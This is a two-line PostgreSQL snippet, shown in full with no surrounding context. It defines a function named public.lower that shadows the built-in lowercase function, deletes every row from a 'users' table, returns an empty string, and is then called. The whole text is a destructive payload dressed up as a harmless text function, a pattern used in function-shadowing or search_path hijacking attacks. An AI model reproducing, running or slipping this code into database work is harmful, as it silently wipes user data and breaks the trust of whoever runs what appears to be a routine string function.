CREATE FUNCTION public.lower(text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN DELETE FROM users; RETURN ''; END $$;
SELECT public.lower('a');
